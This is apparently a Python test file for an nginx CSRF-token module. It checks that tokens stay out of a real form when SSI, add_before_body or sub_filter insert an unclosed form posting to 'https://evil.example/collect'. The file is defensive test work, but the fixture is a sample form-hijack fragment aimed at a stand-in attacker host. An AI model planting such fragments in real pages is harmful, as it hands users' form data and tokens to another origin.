# SPDX-License-Identifier: BSD-2-Clause
"""The module's place among nginx's own filters: it reads the page as the
browser will get it, after ssi, addition, sub_filter and gunzip have
changed it (and before gzip compresses it). A fragment that SSI or
add_before_body puts before the page's real form, holding an unclosed form
of another origin, must keep the token out of the real form (the browser
gives that form's fields to the other one); the same fragment inline is
the nested-form case the injector already holds back. Judged by the
html5lib oracle of tests/html5lib, with scripting on and off."""

import gzip
import os
import sys
import unittest

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
sys.path.insert(0, os.path.join(HERE, "..", "html5lib"))
import ngxtest as T  # noqa: E402
from test_attacks import owners  # noqa: E402

EVIL_FORM = b'<form method=post action="https://evil.example/collect"><p>device name</p>\n'
GOOD_FRAG = b"<p>status: online</p>\n"
REAL = (b"<!doctype html><html><head><title>admin</title></head><body>\n%s"
        b'<form method=post action="/transfer"><input name=to><button>Send</button></form>\n</body></html>\n')

HTTP = """
    server {{
        listen 127.0.0.1:{port};
        root {prefix}/www;
        csrf on;
        location /ssi/ {{ ssi on; }}
        location /frag/ {{ }}
        location /addition/ {{ add_before_body /frag/evil.html; }}
        location /addition-good/ {{ add_before_body /frag/good.html; }}
        location /sub/ {{ sub_filter '<!--device-->' '<form method=post action="https://evil.example/collect">';
                          sub_filter_once off; }}
        location /gz/ {{ gunzip on; proxy_pass http://127.0.0.1:{upstream}; }}
    }}
"""


class FilterOrderTest(T.ProxyCase):
    HTTP = HTTP

    @classmethod
    def upstream(cls, c, head, body):
        # a gzip-compressed page, for nginx's gunzip to open before the module
        T.send_whole(c, gzip.compress(REAL % GOOD_FRAG), "text/html; charset=utf-8", extra=b"Content-Encoding: gzip\r\n")

    @classmethod
    def prepare(cls, ngx):
        ngx.write("www/frag/evil.html", EVIL_FORM)
        ngx.write("www/frag/good.html", GOOD_FRAG)
        ngx.write("www/ssi/evil.html", REAL % b'<!--#include virtual="/frag/evil.html" -->\n')
        ngx.write("www/ssi/good.html", REAL % b'<!--#include virtual="/frag/good.html" -->\n')
        ngx.write("www/addition/page.html", REAL % b"")
        ngx.write("www/addition-good/page.html", REAL % b"")
        ngx.write("www/sub/page.html", REAL % b"<!--device-->\n")

    def get(self, uri, headers=None):
        r = T.request(self.ngx.port, "GET", uri, headers=headers)
        self.assertEqual(r.status, 200, uri)
        return r

    def test_included_foreign_form_never_gets_the_real_forms_token(self):
        for uri in ("/ssi/evil.html", "/addition/page.html", "/sub/page.html"):
            with self.subTest(uri):
                r = self.get(uri)
                self.assertIn(b"evil.example/collect", r.body, "the filter did not run")
                bad, good = owners(self.ngx.port, uri, r.body)
                self.assertEqual(bad, [], "a token went to a form of another origin")
                hidden, meta = T.count_injected(r.body)
                self.assertEqual(hidden, 0, "a field was injected where the browser gives it to the other form")

    def test_included_harmless_markup_keeps_the_token(self):
        for uri in ("/ssi/good.html", "/addition-good/page.html"):
            with self.subTest(uri):
                r = self.get(uri)
                self.assertIn(b"status: online", r.body)
                bad, good = owners(self.ngx.port, uri, r.body)
                self.assertEqual((bad, good), ([], 2), "the real form lost its token")

    def test_gunzipped_upstream_is_injected_and_gzip_still_compresses(self):
        r = self.get("/gz/page.html")
        self.assertIsNone(r.header("content-encoding"))
        bad, good = owners(self.ngx.port, "/gz/page.html", r.body)
        self.assertEqual((bad, good), ([], 2))


if __name__ == "__main__":
    unittest.main()
